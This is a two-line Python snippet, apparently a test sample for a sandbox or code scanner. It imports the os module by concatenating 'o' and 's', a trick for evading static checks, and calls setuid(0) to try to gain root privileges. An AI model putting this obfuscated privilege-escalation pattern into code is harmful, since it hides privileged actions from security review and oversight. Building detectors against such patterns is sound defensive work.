
import importlib
importlib.import_module("o" + "s").setuid(0)
